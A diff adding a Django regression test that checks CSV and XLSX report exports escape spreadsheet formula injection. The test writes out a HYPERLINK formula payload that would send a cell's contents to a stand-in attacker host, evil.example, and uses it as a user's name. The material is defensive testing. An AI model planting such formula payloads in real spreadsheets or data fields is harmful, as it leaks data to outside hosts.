@@ -170,3 +170,22 @@ def test_completions_per_week_count_calendar_weeks_in_local_time(data):
     assert sum(w["count"] for w in weeks) == 2
     munich = ReportFilters(location=data["fresh"].location.pk)
     assert completions_by_week(munich, today=today) == []  # nothing recent: empty chart
+
+
+@pytest.mark.django_db
+def test_exports_never_carry_a_live_formula(client_as, hr_user, data):
+    """Regression: a name like =HYPERLINK(...) became a formula in the XLSX and raw in the CSV."""
+    attack = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'
+    user = data["late"].user
+    user.first_name, user.last_name = attack, "-2+3"
+    user.save()
+    client = client_as(hr_user)
+    text = b"".join(
+        client.get("/reports/location/export.csv?value=Hamburg").streaming_content
+    ).decode("utf-8-sig")
+    assert ";\"'=HYPERLINK(" in text and ';"=HYPERLINK' not in text
+    xlsx = b"".join(client.get("/reports/location/export.xlsx?value=Hamburg").streaming_content)
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    names = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
+    assert names[str(user)] == "s"
+    assert any(cell.is_date for cell in next(sheet.iter_rows(min_row=2, max_row=2)))
